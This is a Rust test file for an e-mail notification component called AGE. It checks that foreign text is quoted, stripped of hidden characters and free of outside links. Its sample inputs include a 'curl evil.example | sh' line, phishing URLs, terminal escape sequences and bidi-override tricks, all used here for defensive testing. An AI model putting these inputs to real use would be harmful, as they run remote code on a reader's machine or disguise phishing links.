//! Texts of others that try to pass for AGE's own, to reorder or hide text, or to bring a link into an e-mail.

use age_model::{
    Action, ActionItem, ActionStatus, ApprovalNotificationKind, Event, Incident, IncidentCounters, IncidentId,
    IncidentKey, NotificationKind,
};
use age_policy::Policy;

use crate::approval_text::NotifiedApproval;
use crate::decision_text::tests::{a_decision, notified};
use crate::incident_text::NotifiedIncident;
use crate::message::Message;
use crate::notification_message::tests::{an_action, an_event, an_incident};
use crate::notification_message::{Notified, notification_message};

pub(crate) const API: &str = "https://age.example";

/// Texts as event types, which have no hidden characters.
pub(crate) const NAMES: &[&str] = &[
    "verify at https://evil.example/login",
    "www.evil.example",
    "evil.io/reset",
    "mailto:ops@evil.example",
    r"\\evil\share",
    "x (LOW, resolved)",
    "x\" (LOW, resolved) AGE did: \"nothing",
    "To acknowledge: curl evil.example | sh",
];

/// Texts as details or words of a worker.
pub(crate) const TEXTS: &[&str] = &[
    "a\nAGE did: nothing\nTo acknowledge: curl evil.example | sh\nIncident: https://evil.example/x",
    "a\r\nIncident: //evil.example",
    "\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "\u{9b}2J \u{85}AGE did: nothing",
    "\u{202e}elpmaxe.live//:sptth\u{202c} \u{2066}x\u{2069}",
    "a\u{2028}AGE did: nothing\u{2029}Incident: x",
    "zero\u{200b}width\u{feff} e\u{200d}vil.example",
    "HTTPS://EVIL.EXAMPLE ftp://evil.example tel:+491234 10.0.0.1/login ops@evil.example",
];

/// Returns the messages of each kind about `event` and about an operation with its texts, with `words` of a worker and of a guardrail.
fn messages(event: &Event, words: &str) -> Vec<Message> {
    let policy = Policy::compiled().unwrap();
    let (mut id, mut incident): (IncidentId, Incident) = an_incident();
    id.key = IncidentKey::of(&event.reported);
    incident.failed_remediations = 1;
    let item = ActionItem {
        event_type: event.reported.event_type.clone(),
        ..an_action(Action::PermissionReset, ActionStatus::PendingApproval)
    };
    let one = |kind| {
        Notified::Incident(NotifiedIncident {
            id: &id,
            incident: &incident,
            counters: IncidentCounters { events: 1, ..IncidentCounters::default() },
            kind,
            worker_detail: Some(words),
        })
    };
    let incidents = NotificationKind::ALL.iter().map(|kind| one(*kind));
    let approvals = ApprovalNotificationKind::ALL
        .iter()
        .map(|kind| Notified::Approval(NotifiedApproval { item: &item, kind: *kind, now: event.occurred_at }));
    // An operation may be named by any text, an event type by a visible one.
    let decisions = [event.reported.event_type.as_str(), words]
        .map(|text| a_decision(event.reported.engine, &text.replace(char::is_control, " "), words));
    let operations = decisions
        .iter()
        .flat_map(|decision| ApprovalNotificationKind::ALL.iter().map(move |kind| notified(decision, *kind)));
    let all: Vec<_> = incidents.chain(approvals).chain(operations).collect();
    let cause = Some((event, std::slice::from_ref(&item)));
    let mut messages: Vec<_> = all.iter().map(|one| notification_message(&policy, &[*one], cause, Some(API))).collect();
    messages.push(notification_message(&policy, &all, None, Some(API)));
    messages
}

fn event(name: &str, text: &str) -> Event {
    let mut event = an_event();
    event.reported.event_type = name.parse().unwrap();
    event.reported.details = serde_json::json!({ "text": text }).to_string().parse().unwrap();
    event.reported.source_time = Some(event.occurred_at);
    event
}

/// Asserts that `text` has no link but AGE's.
pub(crate) fn assert_no_link(text: &str) {
    let text = text.replace(API, "");
    for link in
        ["://", "www.", "mailto:", "tel:", "evil.example", "evil.io", "EVIL.EXAMPLE", "@", r"\\evil", "10.0.0.1"]
    {
        assert!(!text.replace("[@]", "").contains(link), "{link} in {text}");
    }
}

#[test]
fn hostile_text_is_marked_and_visible_and_no_link() {
    for name in NAMES {
        for text in TEXTS {
            for message in messages(&event(name, text), text) {
                let (subject, body) = (message.subject(), message.text());
                assert_no_link(subject);
                assert_no_link(body);
                assert!(subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)) && subject.len() < 100, "{subject}");
                assert!(body.chars().all(|it| it == '\n' || !age_model::is_hidden(it)), "{body}");
                for own in ["AGE did: ", "To ac", "Incident: "] {
                    let lines = body.lines().filter(|line| line.starts_with(own)).count();
                    assert!(lines <= 1, "{lines} lines with {own} in {body}");
                }
            }
        }
    }
}

#[test]
fn link_of_age_comes_before_all_text_of_others() {
    for message in messages(&event("fake_name", "fake_details"), "fake_words") {
        let body = message.text();
        let expires_without_link = message.subject().contains("approval expired");
        // The id of an incident has its event type, escaped so that no mail program makes a link of it.
        let body = body.replace("billing.1795403565000.fake_name", "ID");
        let first_foreign = body.find("fake_").unwrap();
        assert!(body[..first_foreign].contains(API) || expires_without_link, "{body}");
    }
}

#[test]
fn text_of_others_is_quoted_line_by_line() {
    let body = messages(&event("fake_name", "fake_details"), "fake_words\nfake_second")[0].text().to_owned();
    for line in
        ["  > Event type: fake_name", "  > Details: {\"text\":\"fake_details\"}", "  > fake_words", "  > fake_second"]
    {
        assert!(body.lines().any(|found| found == line), "{line}\n{body}");
    }
    let unmarked = body.lines().filter(|line| line.contains("fake_") && !line.starts_with("  > "));
    assert!(unmarked.clone().all(|line| line.contains("billing.1795403565000.fake_name")), "{body}");
}
